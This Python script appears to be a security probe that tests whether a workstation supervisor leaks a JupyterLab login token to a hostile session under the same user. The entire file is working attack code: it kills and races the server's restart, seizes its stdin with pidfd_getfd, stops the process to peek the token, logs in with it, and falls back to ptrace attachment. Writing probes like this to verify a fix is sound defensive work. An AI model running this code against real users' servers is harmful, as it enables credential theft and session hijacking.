"""A session (`yolo`) after the token of JupyterLab's next starts, as a hostile user would go at it.

Usage: python -I token_probe.py steal TRIES | stop STARTS

steal: TRIES times, kill the running server (the user's own) and race its next start, from its fork
on, for a second: pidfd_getfd(pid, 0) for its stdin; with it in hand, wait until the server is not
dumpable, stop it while the supervisor writes the token and copy the token out without consuming it
(tee(2) on a pipe, MSG_PEEK on a socket), and log in with it. Without it, PTRACE_ATTACH (then
detach), once. Prints one JSON line per try: what worked.

stop: kill the server, then STARTS times stop (SIGSTOP) the supervisor's next start at once, long
enough for it to look, let it go, and wait for its end: what a session may always do to a process of
its uid.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import select
import signal
import socket
import sys
import time
import urllib.error
import urllib.request

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438  # the same on every architecture (the unified table)
WALL = 0x40000000
ME = os.getuid()


def _status(pid: int) -> dict[str, str]:
    try:
        with open(f"/proc/{pid}/status") as f:
            return dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)
    except OSError:
        return {}


def _cmdline(pid: int) -> bytes:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read()
    except OSError:
        return b""


def _dumpable(pid: int) -> bool:
    try:
        return os.stat(f"/proc/{pid}/status").st_uid == ME
    except OSError:
        return False


def server() -> int | None:
    """The running server: a process of this uid running labserver."""
    for name in os.listdir("/proc"):
        if not name.isdigit() or b"rig.workstation.labserver" not in _cmdline(int(name)):
            continue
        if _status(int(name)).get("Uid", "").split()[:1] == [str(ME)]:
            return int(name)
    return None


def newcomers(known: set[int], matched: set[int], server_only: bool = False) -> list[int]:
    """Processes of this uid that were not there before the kill (`known`) and not yet returned: the
    supervisor's fork once it took this uid (still running rig serve's program), or the new server
    (alone: server_only)."""
    out = []
    for name in os.listdir("/proc"):
        pid = int(name) if name.isdigit() else 0
        if not pid or pid in known or pid in matched:
            continue
        cmd = _cmdline(pid)
        mine = _status(pid).get("Uid", "").split()[:1] == [str(ME)]
        forked = not server_only and b"/rig\0serve\0" in cmd
        if mine and (b"rig.workstation.labserver" in cmd or forked):
            matched.add(pid)
            out.append(pid)
    return out


def _ours(pid: int) -> bool:
    """pid still runs the server, or rig serve's program before the server's exec."""
    cmd = _cmdline(pid)
    return b"rig.workstation.labserver" in cmd or b"/rig\0serve\0" in cmd


def _attach(pid: int) -> bool:
    """Whether this session could attach to the server (or its fork before the exec): checked while
    it is stopped under the trace, so it cannot have run another program meanwhile."""
    if LIBC.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return False
    try:
        os.waitpid(pid, WALL)
        return _ours(pid)
    finally:
        LIBC.ptrace(PTRACE_DETACH, pid, None, None)


def _getfd(pid: int) -> int:
    pidfd = LIBC.syscall(SYS_PIDFD_OPEN, pid, 0)
    if pidfd < 0:
        return -1
    try:
        return int(LIBC.syscall(SYS_PIDFD_GETFD, pidfd, 0, 0))
    finally:
        os.close(pidfd)


def _copy_out(fd: int, pid: int, timeout: float = 20) -> str | None:
    """The token as it goes by on the server's stdin, left in place for the server."""
    end = time.monotonic() + timeout
    while _dumpable(pid) and time.monotonic() < end:  # the old gate wrote once it was not
        time.sleep(0.001)
    try:
        os.kill(pid, signal.SIGSTOP)
    except ProcessLookupError:
        return None
    try:
        if not select.select([fd], [], [], max(0.0, end - time.monotonic()))[0]:
            return None
        try:
            sock = socket.socket(fileno=os.dup(fd))
            try:
                return sock.recv(4096, socket.MSG_PEEK).decode(errors="replace").strip() or None
            finally:
                sock.close()
        except OSError:  # a pipe: tee it into one of ours
            r, w = os.pipe()
            try:
                n = LIBC.tee(fd, w, 4096, 0)
                return os.read(r, n).decode(errors="replace").strip() if n > 0 else None
            finally:
                os.close(r)
                os.close(w)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGCONT)


def _login(token: str) -> int:
    request = urllib.request.Request(
        "http://127.0.0.1:8888/api/status", headers={"Authorization": f"token {token}"}
    )
    end = time.monotonic() + 60
    while time.monotonic() < end:
        try:
            return int(urllib.request.urlopen(request, timeout=5).status)
        except urllib.error.HTTPError as e:
            return int(e.code)
        except OSError:
            time.sleep(0.5)
    return 0


def _next_start(timeout: float = 30) -> tuple[int | None, set[int]]:
    """Kill the running server; the processes known then (the new start is among those that follow)."""
    end = time.monotonic() + timeout
    while (old := server()) is None and time.monotonic() < end:
        time.sleep(0.05)
    known = {int(n) for n in os.listdir("/proc") if n.isdigit()}
    if old is not None:
        os.kill(old, signal.SIGKILL)
    return old, known


def steal(tries: int) -> None:
    for _ in range(tries):
        _old, known = _next_start()
        got: dict[str, object] = {"attached": False, "fd": False, "token": None, "login": None}
        seen: list[int] = []
        end, first = time.monotonic() + 30, None
        fd = -1
        while time.monotonic() < end and fd < 0:
            for pid in newcomers(known, set(seen)):
                seen.append(pid)
                first = first or time.monotonic()
            for pid in seen:
                if not _ours(pid):  # it ran another program since (a child of the server's: `uname`)
                    continue
                fd = _getfd(pid)
                if fd >= 0 and not _ours(pid):  # a child's after its exec (`uname`): not the server's
                    os.close(fd)
                    fd = -1
                if fd >= 0:
                    got["fd"] = _cmdline(pid).decode(errors="replace")[:200]
                    got["token"] = _copy_out(fd, pid)
                    os.close(fd)
                    break
                # Without its stdin (seccomp may refuse pidfd_getfd): attach, once a try, briefly, as
                # the probe did before injecting code (a longer trace is what the gate sees).
                if not got["attached"] and _attach(pid):
                    got["attached"] = _cmdline(pid).decode(errors="replace")[:200]
            if first is not None and time.monotonic() - first > 1.0:
                break  # a second of the start: the old window was far shorter
        if got["token"]:
            got["login"] = _login(str(got["token"]))
        got["seen"] = seen
        print(json.dumps(got), flush=True)


def stop(starts: int) -> None:
    """The running server killed once; then each start the supervisor makes stopped at once and let go
    0.3 s later, and waited for until it has ended (whoever ended it)."""
    stopped: set[int] = set()
    _old, known = _next_start()
    for _ in range(starts):
        end = time.monotonic() + 90
        new: list[int] = []
        while time.monotonic() < end and not new:
            new = newcomers(known, stopped, server_only=True)
            time.sleep(0.0005)
        if not new:
            break
        os.kill(new[0], signal.SIGSTOP)
        stopped.add(new[0])
        time.sleep(0.3)  # the supervisor's gate looks every 5 ms
        with contextlib.suppress(ProcessLookupError):  # ended by the supervisor meanwhile
            os.kill(new[0], signal.SIGCONT)
        while os.path.exists(f"/proc/{new[0]}") and time.monotonic() < end:
            time.sleep(0.01)
        print(json.dumps({"stopped": sorted(stopped)}), flush=True)


if __name__ == "__main__":
    {"steal": steal, "stop": stop}[sys.argv[1]](int(sys.argv[2]))
